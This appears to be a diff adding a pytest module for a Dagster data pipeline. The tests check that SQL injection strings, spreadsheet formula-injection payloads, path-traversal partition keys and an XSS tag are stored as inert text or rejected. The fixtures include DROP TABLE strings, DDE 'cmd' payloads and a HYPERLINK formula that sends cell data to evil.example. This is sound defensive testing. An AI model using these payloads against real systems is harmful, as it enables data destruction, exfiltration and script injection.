@@ -1,0 +1,139 @@
+"""Texts that are SQL, formulas or markup somewhere: they are stored and given out as they came."""
+
+import csv
+import datetime as dt
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import dagster as dg
+import psycopg
+import pytest
+
+from pipelines import quarantine_pages
+from pipelines.asset_pages import as_table
+from pipelines.core.embedded_postgres import ANALYST, LOADER, Connections
+from pipelines.core.warehouse import Warehouse
+from pipelines.definitions import build_definitions
+from pipelines.resources import SolarResource, WarehouseResource
+from pipelines.solar import registry
+from pipelines_tests.bookings import made_up as bookings
+from pipelines_tests.fake_source import FakeSource, document
+from pipelines_tests.shipments import made_up as shipments
+from pipelines_tests.shipments.made_up import line
+from pipelines_tests.solar.made_up import client_of, register
+
+SQL = [
+    "'; DROP TABLE shipments.articles; --",
+    "$$; DELETE FROM solar.plants; $$",
+    ":name %(name)s %s {name}",
+    "\\'; SELECT pg_sleep(60); --",
+    "\\N",
+    "\\.",
+]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"see")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+]
+
+
+@pytest.fixture
+def instance() -> Iterator[dg.DagsterInstance]:
+    with dg.DagsterInstance.ephemeral() as ephemeral:
+        yield ephemeral
+
+
+@pytest.mark.parametrize("hostile", SQL)
+def test_sql_in_values_is_text(
+    warehouse: Warehouse, owner: psycopg.Connection, tmp_path: Path, hostile: str
+) -> None:
+    changes = dict.fromkeys(("article_name", "sku", "carrier", "receiver_address"), hostile)
+    outcome = shipments.deliver(warehouse, tmp_path, [line(1), line(2, **changes)])
+    assert outcome is not None
+    assert (outcome.read, outcome.rejected) == (2, 0)
+    query = "SELECT article_name, sku, carrier FROM shipments.articles WHERE sku <> 'LP123'"
+    assert owner.execute(query).fetchall() == [(hostile,) * 3]
+    asked = "SELECT receiver_address FROM enriched.track('TN00000002', %s)"
+    assert owner.execute(asked, (hostile,)).fetchall() == [(hostile,)]
+
+
+@pytest.mark.parametrize("hostile", SQL)
+def test_sql_in_a_plants_name_is_text(
+    warehouse: Warehouse, owner: psycopg.Connection, hostile: str
+) -> None:
+    plant_id = registry.add(warehouse, hostile)
+    registry.rename(warehouse, plant_id, hostile[::-1])
+    assert owner.execute("SELECT name FROM solar.plants").fetchall() == [(hostile[::-1],)]
+
+
+@pytest.mark.parametrize("key", ["1; DROP TABLE solar.plants", "1' OR 1=1 --", "../../etc", "1\n2"])
+def test_sql_in_a_partition_key_is_refused_before_anything_is_asked(
+    warehouse: Warehouse,
+    owner: psycopg.Connection,
+    instance: dg.DagsterInstance,
+    source: FakeSource,
+    key: str,
+) -> None:
+    class Impatient(SolarResource):
+        def open(self) -> Any:
+            return client_of(source.url)
+
+    source.will(document([]))
+    register(owner)
+    url = warehouse.engine.url.render_as_string(hide_password=False)
+    instance.add_dynamic_partitions("solar_plants", [key])
+    result = (
+        build_definitions({"warehouse": WarehouseResource(url=url), "solar": Impatient()})
+        .resolve_job_def("solar")
+        .execute_in_process(
+            instance=instance, tags={"dagster/partition": key}, raise_on_error=False
+        )
+    )
+    assert not result.success
+    (failed,) = [event for event in result.all_events if event.is_step_failure]
+    assert key in str(failed.step_failure_data.error)
+    assert source.requests == []
+    assert owner.execute("SELECT count(*) FROM solar.plants").fetchone() == (1,)
+
+
+def test_a_partition_of_a_day_is_a_day_or_refused(instance: dg.DagsterInstance) -> None:
+    job = build_definitions({}).resolve_job_def("flights")
+    with pytest.raises(dg.DagsterUnknownPartitionError):
+        job.execute_in_process(instance=instance, partition_key="2026-01-01'; DROP SCHEMA flights")
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_is_stored_and_given_out_as_it_was_sent(
+    warehouse: Warehouse, server: Connections, database: str, tmp_path: Path, formula: str
+) -> None:
+    shipments.deliver(
+        warehouse, tmp_path, [line(1, article_name=formula, receiver_address=formula)]
+    )
+    query = "SELECT article_name, receiver_address FROM shipments.articles"
+    query += " INNER JOIN shipments.shipments USING (tracking_number, carrier)"
+    with psycopg.connect(server.url(ANALYST, database)) as analyst:
+        assert analyst.execute(query.encode()).fetchall() == [(formula.strip(),) * 2]
+        with analyst.cursor().copy(f"COPY ({query}) TO STDOUT (FORMAT csv)".encode()) as written:
+            text = b"".join(written).decode()
+    assert list(csv.reader([text.strip()])) == [[formula.strip()] * 2]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_where_a_number_is_promised_is_in_quarantine(
+    warehouse: Warehouse, server: Connections, database: str, tmp_path: Path, formula: str
+) -> None:
+    good = [bookings.event(number) for number in range(20)]
+    bookings.deliver(warehouse, tmp_path, [*good, bookings.event(21, hotel_id=formula)])
+    shown = quarantine_pages.records(server.url(LOADER, database), "bookings", 10)
+    assert "hotel_id" in shown
+    assert formula.strip().replace('"', '""') in shown
+
+
+def test_tables_on_pages_of_the_ui_are_text_of_limited_length() -> None:
+    rows = [{"name": "<img src=x onerror=alert(1)>", "at": dt.date(2026, 1, 1), "long": "x" * 9999}]
+    (record,) = as_table(rows).records
+    assert record.data["name"] == "<img src=x onerror=alert(1)>"
+    assert len(str(record.data["long"])) == 200
